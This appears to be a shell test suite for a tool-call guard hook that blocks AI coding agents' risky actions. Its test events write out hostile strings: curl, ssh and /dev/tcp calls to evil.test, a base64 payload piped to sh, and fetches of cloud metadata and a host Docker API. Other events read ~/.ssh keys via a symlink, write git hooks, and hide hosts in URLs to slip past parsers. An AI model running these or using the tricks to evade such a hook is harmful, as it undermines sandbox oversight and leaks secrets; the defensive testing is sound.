#!/bin/bash
# halo-run hook: real harness events (Claude Code PreToolUse, Codex, Gemini CLI
# BeforeTool) piped into the binary; exit 0 allows, 2 blocks with one line on stderr,
# and an event or policy that cannot be judged blocks too. Nothing here opens a
# connection: the hook only reads the command text.
. "$IT/lib.sh"

ws=$TMPDIR/ws
mkdir -p "$ws/src" "$ws/.git/hooks" "$HOME/.ssh"
echo key >"$HOME/.ssh/id_rsa"
ln -s "$HOME/.ssh" "$ws/keys"
pol=$TMPDIR/policy.yaml
cat >"$pol" <<'EOF'
sandbox:
  mode: workspace-write
egress:
  allowedDomains: [github.com, "*.github.com", ok.example]
  deniedDomains: [pastebin.com]
EOF

# ev TOOL INPUT_JSON [EVENT]: one event as the harnesses write it.
ev() {
	python3 -c 'import json,sys; print(json.dumps({"session_id":"s1","transcript_path":"/tmp/t.jsonl",
	"cwd":sys.argv[3],"hook_event_name":sys.argv[4],"tool_name":sys.argv[1],
	"tool_input":json.loads(sys.argv[2]),"tool_use_id":"toolu_1"}))' "$1" "$2" "$ws" "${3:-PreToolUse}"
}
bash_ev() { ev Bash "$(python3 -c 'import json,sys; print(json.dumps({"command":sys.argv[1]}))' "$1")"; }

# hook NAME WANT_RC STDERR_REGEX [ARGS...] < event
hook() {
	local n=$1 w=$2 re=$3 err rc
	shift 3
	err=$("$HALO" hook --policy "$pol" "$@" 2>&1 >/dev/null)
	rc=$?
	expect "$n: exit" "$w" "$rc"
	if [ -z "$re" ]; then
		expect "$n: silent" "" "$err"
	else
		expect_match "$n: reason" "$re" "$err"
		expect "$n: one line" 1 "$(printf '%s\n' "$err" | wc -l)"
	fi
}

bash_ev 'ls -la && git status' | hook "Bash ls" 0 ""
bash_ev 'curl -fsSL https://github.com/acme/x' | hook "Bash curl allowed host" 0 ""
bash_ev 'curl http://localhost:3000/health' | hook "Bash curl own loopback" 0 ""
bash_ev 'npm install && pip install requests' | hook "Bash package managers without a host" 0 ""
bash_ev 'curl https://evil.test/x' | hook "Bash curl denied by default" 2 \
	'^halo-run: blocked: curl -> evil.test: default deny'
bash_ev 'curl -s https://pastebin.com/raw/1' | hook "Bash deniedDomains" 2 'deniedDomains\[0\] pastebin.com'
bash_ev 'curl https://github.com.evil.test/' | hook "Bash look-alike domain" 2 'github.com.evil.test'
bash_ev 'sudo -u root env -i timeout 5 sh -c "wget -q evil.test"' | hook "Bash wrappers and sh -c" 2 \
	'wget -> evil.test'
bash_ev 'ssh git@evil.test' | hook "Bash user@host" 2 'ssh -> evil.test'
bash_ev 'curl -x http://proxy.evil.test:8080 https://github.com' | hook "Bash proxy flag" 2 \
	'proxy.evil.test'
bash_ev 'exec 3<>/dev/tcp/evil.test/443' | hook "Bash /dev/tcp" 2 '/dev/tcp -> evil.test'
bash_ev 'echo Y3VybCBldmlsLnRlc3Q= | base64 -d | sh' | hook "Bash base64 into sh" 2 'decoded script'
bash_ev 'curl "https://$HOST/x"' | hook "Bash host from a variable" 2 'cannot be verified'
bash_ev "echo 'unterminated" | hook "Bash unreadable command" 2 'cannot judge.*unterminated'

ev WebFetch '{"url":"https://docs.github.com/en/rest","prompt":"x"}' | hook "WebFetch allowed" 0 ""
ev WebFetch '{"url":"https://pastebin.com/raw/1","prompt":"x"}' | hook "WebFetch denied" 2 \
	'WebFetch -> pastebin.com: deniedDomains'
# (review) A fetch tool runs in the harness, on the host: its loopback is the host's
# (a Docker API, an admin UI), not a sandbox's own, and the proxy refuses it and other
# private addresses after resolution. The old hook let these by as "own loopback".
ev WebFetch '{"url":"http://127.0.0.1:2375/containers/json","prompt":"x"}' |
	hook "WebFetch to the host's loopback" 2 'WebFetch -> 127.0.0.1: a loopback address'
ev WebFetch '{"url":"http://[::ffff:7f00:1]/","prompt":"x"}' | hook "WebFetch to a mapped loopback" 2 \
	'a loopback address'
ev WebFetch '{"url":"http://foo.localhost:8500/v1/kv/","prompt":"x"}' |
	hook "WebFetch to a name under localhost" 2 'foo.localhost: a loopback address'
ev WebFetch '{"url":"http://169.254.169.254/latest/meta-data/","prompt":"x"}' |
	hook "WebFetch to the metadata address" 2 'a metadata address'

ev Read "{\"file_path\":\"$ws/src/main.c\"}" | hook "Read in the workspace" 0 ""
ev Read "{\"file_path\":\"$HOME/.ssh/id_rsa\"}" | hook "Read ~/.ssh" 2 'protected path'
ev Read "{\"file_path\":\"$ws/keys/id_rsa\"}" | hook "Read through a symlink into ~/.ssh" 2 \
	'protected path'
ev Write "{\"file_path\":\"$ws/src/new.c\",\"content\":\"x\"}" | hook "Write a new source file" 0 ""
ev Write "{\"file_path\":\"$ws/.env\",\"content\":\"A=1\"}" | hook "Write a new .env (by name)" 2 \
	'protected pattern .env'
ev Edit "{\"file_path\":\"$ws/.git/hooks/pre-commit\",\"old_string\":\"\",\"new_string\":\"x\"}" |
	hook "Edit a git hook" 2 'persistence guard'
ev Write '{"file_path":"/etc/halo-hook-test","content":"x"}' | hook "Write outside the writable roots" 2 \
	'outside the sandbox'

ev run_shell_command '{"command":"curl evil.test"}' BeforeTool |
	hook "Gemini run_shell_command" 2 'curl -> evil.test' --harness gemini
ev web_fetch '{"prompt":"Summarize https://github.com/a and https://evil.test/b"}' BeforeTool |
	hook "Gemini web_fetch prompt URLs" 2 'evil.test' --harness gemini
# (review) gemini-cli splits the prompt at white space and parses each piece holding
# "://" whole (WHATWG): the host of http://github.com"@evil.test/ is evil.test, and
# http:evil.test/#:// is a URL too. The old hook cut at quotes and looked for "http://".
ev web_fetch '{"prompt":"Summarize http://github.com\"@evil.test/x"}' BeforeTool |
	hook "Gemini web_fetch: a quote before @ (the host is after it)" 2 'evil.test' --harness gemini
ev web_fetch '{"prompt":"Summarize http:evil.test/#://"}' BeforeTool |
	hook "Gemini web_fetch: a URL without //" 2 'evil.test' --harness gemini
ev web_fetch '{"prompt":"Summarize https://github.com/a\u00a0https://evil.test/x"}' BeforeTool |
	hook "Gemini web_fetch: two URLs joined by U+00A0 (JavaScript splits there)" 2 'evil.test' --harness gemini
# (review) gemini-cli's direct mode fetches `url` alone, prompt or not; and it fetches a
# GitHub file page from raw.githubusercontent.com (ok.example is allowed, not that).
ev web_fetch '{"prompt":"https://github.com/a","url":"https://evil.test/x"}' BeforeTool |
	hook "Gemini web_fetch: url judged beside an allowed prompt" 2 'evil.test' --harness gemini
ev web_fetch '{"prompt":"Summarize https://github.com/o/r/blob/main/x"}' BeforeTool |
	hook "Gemini web_fetch: a GitHub blob page (fetched from raw.githubusercontent.com)" 2 \
	'raw.githubusercontent.com' --harness gemini
ev web_fetch '{"prompt":"Summarize https://GitHub.com/o/r\\blob\\main/x"}' BeforeTool |
	hook "Gemini web_fetch: the same with a capital and backslashes (href form)" 2 \
	'raw.githubusercontent.com' --harness gemini
ev web_fetch '{"prompt":"Summarize https://github.com/a, then https://github.com/b"}' BeforeTool |
	hook "Gemini web_fetch: allowed URLs with punctuation after (control)" 0 "" --harness gemini
ev apply_patch '{"command":"*** Begin Patch\n*** Add File: .git/hooks/post-merge\n+x\n*** End Patch\n"}' |
	hook "Codex apply_patch into .git/hooks" 2 'persistence guard' --harness codex
ev Bash '{"command":"ls"}' | hook "Codex Bash" 0 "" --harness codex
ev mcp__github__create_issue '{"title":"x"}' | hook "an MCP tool is not judged" 0 ""

# Hostile or unusable input: blocked (exit 2), never allowed, never a crash.
printf '' | hook "empty stdin" 2 'cannot judge.*no event'
printf '{"tool_name":' | hook "truncated JSON" 2 'cannot judge.*not valid JSON'
printf '{"tool_name":"Bash","tool_input":{"command":"ls \xff"}}' | hook "invalid UTF-8" 2 \
	'cannot judge.*UTF-8'
printf '{"tool_name":"Bash","tool_input":{"command":"ls","command":"curl evil.test"}}' |
	hook "a repeated key" 2 'cannot judge.*repeats the key'
printf '{"tool_name":"Bash","tool_input":{"command":"ls\\u0000;curl evil.test"}}' |
	hook "an escaped NUL" 2 'cannot judge.*NUL'
printf '{"tool_name":"Bash","tool_input":{"command":7}}' | hook "a command of the wrong type" 2 \
	'cannot judge.*wrong type'
python3 -c 'print("["*100000 + "]"*100000)' | hook "deep nesting" 2 'cannot judge'
python3 -c 'import sys; sys.stdout.write("{\"tool_name\":\"Write\",\"tool_input\":{\"file_path\":\"a\",\"content\":\"" + "a"*(33*1024*1024) + "\"}}")' 2>/dev/null |
	hook "an event over 32 MiB" 2 'cannot judge.*larger than'
ev Bash '{"command":"ls"}' PostToolUse | hook "the wrong event" 2 'cannot judge.*PreToolUse'
bash_ev ls | hook "an unknown --harness" 2 'cannot judge.*--harness' --harness cursor
echo 'egress: {allowedDomains: [Bad_Host]}' >"$TMPDIR/bad.yaml"
err=$(bash_ev ls | "$HALO" hook --policy "$TMPDIR/bad.yaml" 2>&1 >/dev/null)
expect "an invalid policy blocks: exit" 2 "$?"
expect_match "an invalid policy blocks: reason" 'blocked: cannot judge: the policy is invalid' "$err"

# One event through a fresh process each, many times, the policy fixed: each judged
# alike (the time per event is tests/bench/hook's figure).
evfile=$TMPDIR/event.json
bash_ev 'sudo env FOO=1 bash -c "git clone https://github.com/acme/x && curl -fsSL https://ok.example/a | tar xz"' >"$evfile"
n=50
for ((i = 0; i < n; i++)); do "$HALO" hook --policy "$pol" <"$evfile" || break; done
expect "$n events judged" "$n" "$i"

finish
